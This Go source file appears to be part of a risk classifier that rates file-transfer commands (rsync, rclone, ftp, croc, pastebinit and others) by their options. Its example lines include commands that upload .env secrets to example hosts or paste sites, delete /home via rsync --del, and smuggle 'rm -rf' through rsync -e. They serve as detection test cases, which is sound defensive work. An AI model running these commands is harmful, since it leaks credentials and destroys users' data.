package program

// transfers: programs that copy files between machines.
var transfers = []Entry{
	{
		Name:   "rsync openrsync",
		Source: "rsync(1), rsync 3.3",
		Level:  low, Operands: "remote...", Special: RemoteCopy, Stdin: Ignores,
		Options: `
			-abcdgHhIiJkKlLmNoOpPqrRsStuUvVWxXyzADE0468
			-n,--dry-run:dry
			-e,--rsh=:exec+executes
			--rsync-path=:executes
			-M,--remote-option=:executes
			-f,--filter=
			-F
			-B,--block-size=
			-T,--temp-dir=:writedir
			-C,--cvs-exclude
			--del,--delete,--delete-before,--delete-during,--delete-delay,--delete-after:remove+recursive+overwrites
			--delete-excluded,--delete-missing-args:remove+recursive+overwrites
			--remove-source-files:overwrites
			--inplace
			--backup-dir=:writedir
			--partial-dir=:writedir
			--log-file,--write-batch,--only-write-batch=:writelog
			--read-batch=:look
			--exclude-from,--include-from,--password-file=:look
			--files-from=:read
			--compare-dest,--copy-dest,--link-dest=:look
			--daemon:network+executes
			--config=:settings
			--early-input=:look
			--exclude=
			--include=
			--chmod=
			--chown=
			--usermap=
			--groupmap=
			--bwlimit=
			--port=
			--address=
			--sockopts=
			--timeout=
			--contimeout=
			--max-size=
			--min-size=
			--max-delete=
			--max-alloc=
			--modify-window=
			--suffix=
			--info=
			--debug=
			--out-format=
			--log-file-format=
			--compress-choice,--zc=
			--compress-level,--zl=
			--checksum-choice,--cc=
			--checksum-seed=
			--skip-compress=
			--iconv=
			--outbuf=
			--stop-after=
			--stop-at=
			--protocol=
			--dparam=
			--copy-as=:sudo
			--mkpath --list-only --stats --progress --partial --append --append-verify --archive --verbose --quiet
			--recursive --relative --update --links --copy-links --copy-unsafe-links --safe-links --munge-links
			--keep-dirlinks --copy-dirlinks --hard-links --perms --executability --acls --xattrs --owner --group
			--devices --copy-devices
			--write-devices:system
			--specials --times --atimes --open-noatime --crtimes --omit-dir-times --omit-link-times --super --fake-super
			--sparse --preallocate --checksum --whole-file --one-file-system --existing --ignore-existing
			--ignore-non-existing --ignore-errors --ignore-missing-args --force --prune-empty-dirs --numeric-ids
			--size-only --ignore-times --fuzzy --compress --old-compress --new-compress --from0 --old-args
			--secluded-args --protect-args --trust-sender --human-readable --8-bit-output --blocking-io
			--itemize-changes --delay-updates --backup --dirs --old-dirs --no-motd --ipv4 --ipv6 --cvs-exclude --fsync
			--no-implied-dirs --open-noatime --inc-recursive
		`,
		Examples: `
			high..critical NETWORK_RISK | rsync -avz dist/ dev@example.com:/srv/app/
			critical NETWORK_RISK FS_CONFIG_SECRETS | rsync .env example.com::x
			high NETWORK_RISK | rsync -a rsync://example.com/mod/ vendor/
			medium | rsync -a src/ build/src/
			high FS_DELETE_OVERWRITE | rsync -a --delete src/ build/out/
			critical FS_DELETE_OVERWRITE | rsync -a --del empty/ /home/
			high..critical FS_DELETE_OVERWRITE | rsync -a --delete empty/ .
			high FS_OUTSIDE_WORKSPACE | rsync -a src/ /etc/
			medium..critical EXEC_ARBITRARY | rsync -e ./x.sh a example.com:b
			medium..critical EXEC_ARBITRARY | rsync -e 'sh -c "rm -rf src"' a example.com:b
			low | rsync --version
		`,
	},
	{
		Name:   "rclone",
		Source: "rclone manual 1.68",
		Level:  high, Categories: network, Operands: "",
		Options: `
			-*
			--config=:settings
			-n,--dry-run
			--include=
			--exclude=
			--filter=
			--filter-from=:look
			--files-from=:read
			--log-file=:write
			--transfers=
			--checkers=
			--password-command=:exec
			--rc-addr=
			--max-age=
			--min-age=
			--bwlimit=
		`,
		Subs: []Entry{
			{
				Name: "version help listremotes completion genautocomplete", Level: low, Operands: "text...",
				Options: `-*`,
			},
			{
				Name: "sync bisync", Level: high, Categories: network | overwrites | deletes,
				Says: "{0} deletes what the other side lacks", Operands: "remote...", Special: RemoteCopy,
				Options: `--backup-dir=`,
			},
			{
				Name: "copy copyto move moveto copyurl", Level: high, Categories: network | overwrites,
				Operands: "remote...", Special: RemoteCopy,
				Options: `
					--backup-dir=
					--delete-excluded:deletes
				`,
			},
			{
				Name: "delete deletefile purge rmdir rmdirs cleanup dedupe", Level: high,
				Categories: network | deletes, Operands: "text...",
			},
			{
				Name: "config authorize", Level: high, Categories: accounts | secrets, Operands: "text...",
				Out: Sensitive,
			},
			{Name: "rcat", Level: high, Categories: network, Operands: "text...", Stdin: SendsIt},
			{Name: "link", Level: high, Categories: network | publishes, Operands: "text..."},
			{Name: "serve mount rcd nfsmount", Level: high, Categories: network | system, Operands: "text..."},
			{Name: "*", Level: high, Categories: network, Operands: "text...", Out: Download},
		},
		Examples: `
			high NETWORK_RISK | rclone ls gdrive:
			high..critical NETWORK_RISK | rclone copy dist gdrive:x
			critical FS_CONFIG_SECRETS | rclone copy .env gdrive:x
			high DELETE | rclone purge gdrive:x
			low | rclone listremotes
			high FS_CONFIG_SECRETS | rclone config show
		`,
	},
	{
		Name:   "ftp lftp ncftp tftp pftp",
		Source: "ftp(1), lftp(1), tftp(1): their commands include ! for a shell",
		Level:  high, Categories: network | executes, Operands: "url text...", Stdin: RunsIt, Out: Download,
		Options: `
			-*
			-c,-e=:code
			-f=:script
			-u=
			-p=
			-o=:write
			-s=
			-P=
			-N=:read
		`,
		Examples: `
			high NETWORK_RISK EXEC_ARBITRARY | ftp ftp.example.com
			high NETWORK_RISK | lftp -e 'mirror -R src' example.com
		`,
	},
	{
		Name:   "ncftpput curlftpfs sshfs smbclient smbget smbtree rpcclient mount.cifs mount.nfs davfs2 cadaver",
		Source: "ncftpput(1), sshfs(1), smbclient(1)",
		Level:  high, Categories: network, Operands: "text...", Stdin: SendsIt, Out: Download,
		Options: `
			-*
			-c,--command=:code
			-U=
			-A=:read
			-o=
			-p=
			-u=
		`,
		Examples: `high NETWORK_RISK | smbclient -L //files.example.com`,
	},
	{
		Name:   "croc wormhole magic-wormhole ffsend onionshare onionshare-cli dropbox syncthing",
		Source: "croc, magic-wormhole, ffsend, onionshare manuals: files go to somebody else",
		Level:  critical, Categories: network, Bare: high, Says: "{0} hands files to somebody else",
		Operands: "text...", Stdin: SendsIt, Options: `-*`,
		Subs: []Entry{
			{Name: "receive recv", Level: high, Categories: network, Operands: "text...", Out: Download},
			{
				Name: "send", Level: critical, Categories: network, Operands: "sendfile...", Stdin: SendsIt,
				Options: `
					--text=:sendable
					--code=
				`,
			},
			{Name: "version help status", Level: low},
		},
		Examples: `
			critical NETWORK_RISK | croc send src.tar.gz
			critical NETWORK_RISK FS_CONFIG_SECRETS | wormhole send .env
			high NETWORK_RISK | wormhole receive 7-a-b
		`,
	},
	{
		Name:   "pastebinit gist mega-put megaput",
		Source: "pastebinit(1), gist, megaput(1): files are put where others read them",
		Level:  critical, Categories: network | publishes, Says: "{0} hands files to somebody else",
		Operands: "sendfile...", Stdin: SendsIt,
		Options: `
			-*
			-i=:sendfile
			-b=
			-a=
			-t=
			-d=
			-f=
			-l:network
		`,
		Examples: `
			critical NETWORK_RISK FS_CONFIG_SECRETS | pastebinit < .env
			critical NETWORK_RISK PUBLISH | gist notes.txt
		`,
	},
}
